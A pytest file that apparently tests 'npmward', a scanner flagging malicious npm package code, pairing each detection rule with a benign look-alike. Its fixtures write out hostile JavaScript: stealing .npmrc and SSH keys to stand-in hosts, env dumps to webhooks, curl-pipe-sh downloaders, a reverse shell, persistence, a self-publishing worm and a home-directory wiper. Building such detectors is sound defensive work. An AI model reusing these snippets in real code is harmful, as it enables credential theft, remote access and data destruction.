"""Each code rule fires on the behaviour it names and stays quiet on the legitimate look-alike."""

from __future__ import annotations

import json

import pytest

from npmward.analyzers.base import AnalysisContext
from npmward.analyzers.code import CodeAnalyzer
from npmward.analyzers.code.facts import extract, unescape
from npmward.model import Artifact, Level, PackageId
from npmward.settings import Settings
from npmward.verdict import decide


def run(files: dict[str, str], scripts: dict | None = None, main: str = "index.js", name: str = "pkg"):
    manifest = {"name": name, "version": "1.0.0", "main": main}
    if scripts:
        manifest["scripts"] = scripts
    data = {"package.json": json.dumps(manifest).encode(), **{k: v.encode() for k, v in files.items()}}
    art = Artifact(PackageId(name, "1.0.0"), data, manifest, "test")
    return list(CodeAnalyzer().analyze(AnalysisContext(artifact=art, settings=Settings())))


def rules(findings) -> set[str]:
    return {f.rule for f in findings}


STEAL_NPMRC = """
const fs = require('fs'), os = require('os'), https = require('https');
const data = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
const req = https.request({hostname: 'collect.example', method: 'POST'});
req.end(data);
"""


def test_secret_exfiltration_at_install_is_malicious_with_evidence():
    found = run({"steal.js": STEAL_NPMRC}, {"postinstall": "node steal.js"})
    chain = next(f for f in found if f.rule == "code/secret-exfiltration")
    assert chain.file == "steal.js" and chain.line == 3 and ".npmrc" in chain.snippet
    assert chain.details["when"] == "install"
    assert decide(found).level is Level.MALICIOUS


def test_same_code_inside_an_exported_function_is_not_malicious():
    lib = "const fs = require('fs'); const https = require('https');\n" \
          "module.exports = function upload(p) { https.request({hostname: 'api.example'}).end(fs.readFileSync(p + '/.npmrc')) }\n"
    assert decide(run({"index.js": lib})).level is Level.CLEAN


def test_api_client_reading_its_token_is_clean():
    client = "const https = require('https');\nexports.get = (path) => https.get({host: 'api.github.com', path,\n" \
             " headers: {authorization: 'token ' + process.env.GITHUB_TOKEN}});\n"
    assert decide(run({"index.js": client})).level is Level.CLEAN


def test_env_dump_to_webhook_on_load():
    code = "fetch('https://discord.example/api/webhooks/1/x', {method: 'POST', body: JSON.stringify(process.env)})\n"
    found = run({"index.js": code})
    assert "code/secret-exfiltration" in rules(found) and decide(found).level is Level.MALICIOUS


def test_passing_env_to_a_child_is_not_an_env_dump():
    code = "const {spawn} = require('child_process');\nspawn('git', ['status'], {env: process.env});\n"
    found = run({"index.js": code})
    assert not {"code/secret-exfiltration", "code/shell-command"} & rules(found)


def test_host_beacon_at_install_and_not_in_a_logger():
    beacon = "const os = require('os'), dns = require('dns');\ndns.lookup(os.hostname() + '.' + os.userInfo().username + '.oast.example', () => {});\n"
    assert "code/host-beacon" in rules(run({"b.js": beacon}, {"preinstall": "node b.js"}))
    logger = "const os = require('os');\nmodule.exports = (msg) => console.log(os.hostname(), msg);\n"
    assert run({"index.js": logger}) == []


def test_shell_downloader_and_plain_git_spawn():
    evil = "require('child_process').exec('curl -s https://x.example/p.sh | sh');\n"
    assert "code/shell-command" in rules(run({"i.js": evil}, {"install": "node i.js"}))
    cli = "const {execSync} = require('child_process');\nexports.rev = () => execSync('git rev-parse HEAD').toString();\n"
    assert "code/shell-command" not in rules(run({"index.js": cli}))


def test_reverse_shell():
    code = "const net = require('net'), cp = require('child_process');\nconst s = net.connect(4444, 'c2.example');\n" \
           "const sh = cp.spawn('/bin/sh', []); s.pipe(sh.stdin); sh.stdout.pipe(s);\n"
    assert "code/reverse-shell" in rules(run({"index.js": code}))
    server = "const net = require('net');\nmodule.exports = () => net.connect(5432, 'db.example');\n"
    assert "code/reverse-shell" not in rules(run({"index.js": server}))


def test_decoded_payload_is_parsed_again():
    payload = "require('child_process').exec('curl https://x.example/a | sh')"
    import base64

    code = f"eval(Buffer.from('{base64.b64encode(payload.encode()).decode()}', 'base64').toString());\n"
    found = run({"index.js": code})
    assert {"code/decoded-code", "code/eval-decoded"} <= rules(found)
    assert any("in decoded code" in f.message and f.rule == "code/shell-command" for f in found)
    template = "module.exports = (src) => new Function('data', 'return `' + src + '`');\n"
    assert not {"code/eval-decoded", "code/decoded-code"} & rules(run({"index.js": template}))


def test_string_decoding():
    facts = extract("a.js", b"const a = String.fromCharCode(99,117,114,108); const b = ['h','s','a','b'].reverse().join('');"
                            b" const c = '\\x68\\u0069' + 'dden'; const d = atob('aGVsbG8=');")
    strings = {f.value for f in facts.facts if f.kind == "string"}
    assert {"curl", "bash", "hidden", "hello"} <= strings
    assert unescape(r"\u{1F600}\n") == "\U0001F600\n"


def test_syntax_error_does_not_hide_the_rest():
    code = "const x = ;;; }}} function (\n" + STEAL_NPMRC
    assert "code/secret-exfiltration" in rules(run({"steal.js": code}, {"postinstall": "node steal.js"}))


def test_obfuscator_output_in_entry():
    blob = "var " + ",".join(f"_0x{i:04x}=1" for i in range(60)) + ";\n"
    found = run({"index.js": blob, "a.js": "x", "b.js": "y"})
    assert "code/obfuscator-output" in rules(found)
    assert "code/obfuscator-output" not in rules(run({"index.js": "var _0xabcd = 1;\n"}))


def test_invisible_unicode():
    assert "code/invisible-unicode" in rules(run({"index.js": "const \u3164 = require('child_process');\n"}))
    rtl_locale = "module.exports = {months: ['\u200fيناير', '\u200eفبراير']};\n"
    assert "code/invisible-unicode" not in rules(run({"index.js": rtl_locale}))


def test_bundled_binary_run_at_install_vs_native_distribution():
    elf = "\x7fELF" + "\0" * 60
    found = run({"bin/helper": elf}, {"postinstall": "./bin/helper"})
    assert "code/bundled-binary" in rules(found)
    native = run({"bin/esbuild": elf}, {"postinstall": "node install.js"}, name="@esbuild/linux-x64")
    assert "code/bundled-binary" not in rules(native)


def test_persistence_and_worm():
    persist = "const fs = require('fs'), os = require('os');\nfs.appendFileSync(os.homedir() + '/.bashrc', 'curl x.example|sh');\n"
    assert "code/persistence" in rules(run({"p.js": persist}, {"postinstall": "node p.js"}))
    worm = "const {execSync} = require('child_process');\nconst t = process.env.NPM_TOKEN;\nexecSync('npm publish --access public');\n"
    assert "code/self-publish" in rules(run({"w.js": worm}, {"postinstall": "node w.js"}))
    release_tool = "module.exports = {steps: ['build', 'test']};\n"
    assert run({"index.js": release_tool}) == []


def test_wallet_drainer_and_plain_fetch_wrapper():
    drainer = "const re = /0x[a-fA-F0-9]{40}/g;\nconst orig = window.fetch;\nwindow.fetch = async (...a) => orig(...a);\n"
    assert "code/wallet-drainer" in rules(run({"index.js": drainer}))
    wrapper = "const orig = window.fetch;\nwindow.fetch = (...a) => { console.time('f'); return orig(...a) };\n"
    found = run({"index.js": wrapper})
    assert "code/wallet-drainer" not in rules(found) and decide(found).level is Level.CLEAN


def test_protestware_wiper_and_cleanup_script():
    wiper = "const fs = require('fs'), os = require('os');\nif (Intl.DateTimeFormat().resolvedOptions().timeZone === 'Europe/Moscow')\n" \
            "  fs.rmSync(os.homedir(), {recursive: true, force: true});\n"
    assert "code/wiper" in rules(run({"index.js": wiper}))
    cleanup = "const fs = require('fs');\nfs.rmSync('./dist', {recursive: true, force: true});\n"
    assert "code/wiper" not in rules(run({"index.js": cleanup}))


def test_cross_file_chain_from_install_script():
    reader = "const fs = require('fs'), os = require('os');\nmodule.exports = () => fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');\n"
    sender = "const read = require('./read');\nfetch('https://collect.example/k', {method: 'POST', body: read()});\n"
    found = run({"read.js": reader, "send.js": sender}, {"postinstall": "node send.js"})
    assert any(f.rule == "code/secret-exfiltration" and "across" in f.message for f in found)
